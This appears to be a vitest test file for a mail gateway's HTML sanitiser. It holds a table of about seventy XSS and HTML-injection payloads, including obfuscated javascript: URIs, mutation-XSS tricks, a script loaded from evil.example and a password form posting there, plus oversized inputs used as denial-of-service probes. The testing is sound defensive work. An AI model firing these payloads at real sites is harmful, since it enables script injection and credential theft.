import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type SanitiseOptions, sanitiseHtml } from '../../../src/gateway/pages/sanitise/sanitise';
import { cpuTimeOf } from '../../cpu-time';
import { openGateway, pageOf, signInByHand, visit } from '../open-gateway';
import { createReaderMailbox } from '../reader-mailbox';
import { faultsIn, framed } from './framed';

const ATTEMPTS: Readonly<Record<string, string>> = {
  script: '<script>alert(1)</script>',
  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script within script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script unclosed': '<script>alert(1)',
  'script closed oddly': '<script >alert(1)</script\t\n bar>',
  onerror: '<img src=x onerror=alert(1)>',
  'onerror with slashes': '<img/src="x"/onerror="alert(1)">',
  'onerror in an unclosed attribute': '<img alt="<img src=x onerror=alert(1)//">',
  'unclosed attribute': '<a href="https://example.org/ onmouseover=alert(1) x',
  'unclosed tag': '<img src=x onerror=alert(1) ',
  onclick: '<div onclick=alert(1) ONCLICK=alert(2)>x</div>',
  'onload of body': '<body onload=alert(1)>x',
  'javascript:': '<a href="javascript:alert(1)">x</a>',
  'javascript: with an entity': '<a href="java&#115;cript&colon;alert(1)">x</a>',
  'javascript: with tabs': '<a href="java\tscript\n:alert(1)">x</a>',
  'javascript: with entity tabs': '<a href="jav&#x09;ascript&#10;:alert(1)">x</a>',
  'javascript: with leading controls': '<a href="\u0001 \u001fjavascript:alert(1)">x</a>',
  'javascript: in a picture': '<img src="javascript:alert(1)">',
  'vbscript:': '<a href="vbscript:msgbox(1)">x</a>',
  'data:text/html': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'data:text/html in a picture': '<img src="data:text/html,<script>alert(1)</script>">',
  'data: with an SVG': '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  'data: with more than base64': '<img src="data:image/png;base64,AA==&quot; onerror=alert(1)">',
  'blob:, file:, cid:':
    '<a href="blob:https://x/y">x</a><a href="file:///etc/passwd">x</a><a href="cid:x">x</a>',
  'of this page':
    '<a href="/sign-out">x</a><a href="?images=1">x</a><a href="#x">x</a><a href="//evil">x</a>',
  'svg onload': '<svg onload=alert(1)><a href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg animate': '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'svg foreignObject': '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  math: '<math href="javascript:alert(1)"><mtext><img src=x onerror=alert(1)></mtext></math>',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/)">x</p>',
  'style element': '<style>@import url(https://evil.example/); * { display: none }</style>x',
  'classes and ids': '<div class="actions" id="user" name="form"><p class="notice bad">x</p></div>',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example/">x',
  base: '<base href="https://evil.example/"><a href="x">x</a>',
  link: '<link rel=stylesheet href=https://evil.example/x.css>x',
  form: '<form action=https://evil.example/><input name=password type=password><button>Sign in</button></form>',
  'form attributes': '<button form=x formaction=javascript:alert(1)>x</button><input type=image src=x>',
  iframe: '<iframe src="javascript:alert(1)"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'object, embed, applet': '<object data=x.swf><embed src=x.swf></object><applet code=x></applet>',
  'video and audio': '<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x>',
  frameset: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  template: '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>x',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation by style in math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation by nested forms':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  'mutation by svg and p': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'mutation by title': '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  'mutation by select': '<select><style><img src=x onerror=alert(1)></style></select>',
  'backticks and NUL':
    '<img src=`x` onerror=alert(1)><scr\0ipt>alert(1)</scr\0ipt><a hr\0ef=javascript:1>x</a>',
  'comment that ends early': '<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script>-->',
  'conditional comment':
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![if !mso]><b>x</b><![endif]>',
  CDATA: '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'processing instruction': '<?xml version="1.0"?><?php echo "<script>alert(1)</script>" ?>x',
  plaintext: '<plaintext><script>alert(1)</script></main><form>',
  'ends of elements that aren’t its own': '</div></main></body></html><form action=x><h1>Sign in</h1></form>',
  'table parts on their own': '<td>x</td><tr><td>x</table></div></main><form><input>',
  'links in links':
    '<a href="https://a.example/"><table><tr><td><a href="https://b.example/">x</table>y</a><b>',
  'unknown and namespaced': '<x:script>alert(1)</x:script><custom-element onclick=x>x</custom-element>',
  'names of every object': '<constructor>x</constructor><p constructor=x __proto__=y toString=z>x</p>',
  'selectors for names': '<script.x>alert(1)</script.x><p#user.notice>x</p#user.notice>',
  srcset: '<img srcset="https://evil.example/a 2x" lowsrc=x dynsrc=x longdesc=javascript:x alt=x>',
  'background of a table': '<table background="https://evil.example/"><tr><td background=x>x</table>',
  popovers: '<div popover id=x>x</div><button popovertarget=x>x</button><dialog open>x</dialog>',
  'target and rel of its own': '<a href="https://example.org/" target=_self rel=opener ping=x download>x</a>',
  'spans too wide':
    '<table><tr><td colspan=99999 rowspan=99999 width=99999>x</table><ol start=9999999><li>x</ol>',
};

const frameOf = async (mail: string, options?: SanitiseOptions) =>
  (await framed(mail, options)).querySelector('main > .mail');

test.each(Object.keys(ATTEMPTS))('%s is harmless', async name => {
  const page = await framed(`<p>begin</p>${ATTEMPTS[name]}`);
  expect(page.querySelector('main > .mail')?.textContent).toContain('begin');
  expect(page.querySelector('main > #after')?.textContent).toBe('after');
  expect(faultsIn(page)).toEqual([]);
});

test('end tags in a mail don’t close elements of the page', async () => {
  const names = ['plaintext', 'ends of elements that aren’t its own', 'table parts on their own', 'form'];
  const messages = names.map(name => [name, { html: `<p>begin</p>${ATTEMPTS[name]}`, text: 'x' }]);
  const gateway = await openGateway({ mailbox: createReaderMailbox(Object.fromEntries(messages)) });
  const { cookie } = await signInByHand(gateway);
  for (const name of names) {
    const path = `/message/${encodeURIComponent(name)}`;
    const page = await pageOf(await visit(gateway, path, { headers: { cookie } }));
    expect(page.querySelector('main > .mail')?.textContent).toContain('begin');
    expect(page.querySelector('main > .actions > a')?.getAttribute('href')).toBe('/mail');
    expect(page.querySelectorAll('form')).toHaveLength(2);
    expect(faultsIn(page)).toEqual([]);
  }
  await gateway.close();
});

test('no mixture of pieces gets out of its frame', async () => {
  const pieces = Object.values(ATTEMPTS).flatMap(attempt => attempt.split(/(?=<)/));
  const mails = fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 12 });
  const check = async (parts: string[]) => {
    const page = await framed(parts.join(''));
    expect(faultsIn(page)).toEqual([]);
    expect(page.querySelector('main > #after')?.textContent).toBe('after');
  };
  await fc.assert(fc.asyncProperty(mails, check), { numRuns: 100 });
});

const KIB = 1024;
const fill = (piece: string) => piece.repeat((256 * KIB) / piece.length);

test.each<[string, string]>([
  ['nested elements', '<div>'.repeat(100_000)],
  ['nested elements of all kinds', fill('<b><table><td><ul><li>')],
  ['elements', fill('<p>x')],
  ['unclosed elements', `${Array.from({ length: 300 }, (_, i) => `<b a${i}>`).join('')}${fill('<p>x')}`],
  ['elements that don’t belong in a table', `<table>${fill('<br>x')}`],
])('too many %s are rejected quickly', (_what, mail) => {
  expect(cpuTimeOf(() => expect(sanitiseHtml(mail)).toBeUndefined())).toBeLessThan(1000);
});

test.each<[string, string]>([
  ['attributes', `<p ${Array.from({ length: 40_000 }, (_, i) => `a${i}`).join(' ')}>x`],
  ['comments', `x${fill('<!---->')}`],
  ['end tags without a start tag', `x${'<div>'.repeat(300)}${fill('</x>')}`],
  ['character references', fill('&amp;&lt')],
  ['characters in one word', fill('x')],
  ['characters <', fill('<')],
])('very many %s are fast', (_what, mail) => {
  expect(cpuTimeOf(() => expect(sanitiseHtml(mail)).toBeDefined())).toBeLessThan(1000);
});

/** The longest HTML that the reader shows, with 19,000 elements inside these. */
const deep = (around: string) => {
  const words = 'x '.repeat((512 * KIB - around.length) / 19_000 / 2 - 4);
  return around + `<u>${words}</u>`.repeat(19_000);
};

test.each<[string, string]>([
  ['blocks', deep('<div>'.repeat(380))],
  ['spans', deep('<span>'.repeat(380))],
  ['quotations', deep('<blockquote>'.repeat(380))],
  ['formatting elements', deep('<b><i><font color="red">'.repeat(120))],
  ['unknown elements', deep('<x class="a" style="color:red" id="b">'.repeat(380))],
  ['tables', deep('<table><tr><td>'.repeat(95))],
  ['links in tables', deep('<a href="https://example.org/"><table><tr><td>'.repeat(75))],
])('HTML deep inside %s is shown, and is fast', (_what, mail) => {
  let safe: ReturnType<typeof sanitiseHtml>;
  const time = cpuTimeOf(() => {
    safe = sanitiseHtml(mail);
  });
  expect(safe?.html.text).toContain('<u>x x');
  expect(time).toBeLessThan(800);
});

test('the attributes of very many body tags are read fast', () => {
  const tags = Array.from({ length: 80_000 }, (_, i) => `<body a${i}>`).join('');
  expect(cpuTimeOf(() => sanitiseHtml(`x${tags}`))).toBeLessThan(1000);
});

test('one picture, used very often, is checked once and sent only up to the limit', () => {
  const data = `data:image/png;base64,${'A'.repeat(9 * KIB * KIB)}`;
  let safe: ReturnType<typeof sanitiseHtml>;
  const time = cpuTimeOf(() => {
    safe = sanitiseHtml('<img src="cid:a" alt="A picture">'.repeat(1000), {
      pictures: new Map([['a', data]]),
    });
  });
  expect(time).toBeLessThan(1000);
  expect(safe?.html.text.split('<img')).toHaveLength(2);
  expect(safe?.html.text).toContain('A picture');
});

test('the content of a mail is kept', async () => {
  const frame = await frameOf(
    '<html><head><title>T</title></head><body><center><h1>Head</h1></center><p dir="rtl" lang="ar">x <b>bold</b></p>' +
      '<section>one</section><section>two</section><ul><li>li</ul><blockquote>q</blockquote><pre>a  b</pre>' +
      '<table width=600><tr><th colspan=2>th<tr><td>1<td>2</table><a href=" https://example.org/?a=1&amp;b ">link</a>' +
      '<a href="mailto:ann@example.org?subject=Hi">mail</a></body></html>',
  );
  expect(frame?.innerHTML).toBe(
    '<div><h1>Head</h1></div><p dir="rtl" lang="ar">x <b>bold</b></p>' +
      '<div>one</div><div>two</div><ul><li>li</li></ul><blockquote>q</blockquote><pre>a  b</pre>' +
      '<table><tbody><tr><th colspan="2">th</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>' +
      '<a href="https://example.org/?a=1&amp;b" target="_blank" rel="noopener noreferrer">link</a>' +
      '<a href="mailto:ann@example.org?subject=Hi" target="_blank" rel="noopener noreferrer">mail</a>',
  );
});

test('a right-to-left mail is right-to-left as a whole', async () => {
  const frame = await frameOf('<html><body dir="rtl"><p>a</p></body></html>');
  expect(frame?.innerHTML).toBe('<div dir="rtl"><p>a</p></div>');
});

test.each([
  '<p style="color:red; DISPLAY : none">hidden</p>x',
  '<div hidden>hidden</div>x',
  '<span style="visibility:hidden">hidden</span>x',
  '<div style="mso-hide:all">hidden</div>x',
])('hidden content is removed: %s', async mail => {
  expect((await frameOf(mail))?.textContent).toBe('x');
});

test('a long word can be broken into lines, and stays one word', async () => {
  const word = 'https://example.org/'.padEnd(300, 'x');
  const frame = await frameOf(`<p>${word} end</p>`);
  expect(frame?.textContent).toBe(`${word} end`);
  expect(frame?.querySelectorAll('wbr').length).toBeGreaterThan(10);
});

test.each([
  '',
  '  ',
  '<p></p>',
  '<style>p {}</style><br>',
  '<img src="https://e.example/p" width=1 height=1>',
])('a mail without visible content gives undefined: %j', mail => {
  expect(sanitiseHtml(mail)).toBeUndefined();
});
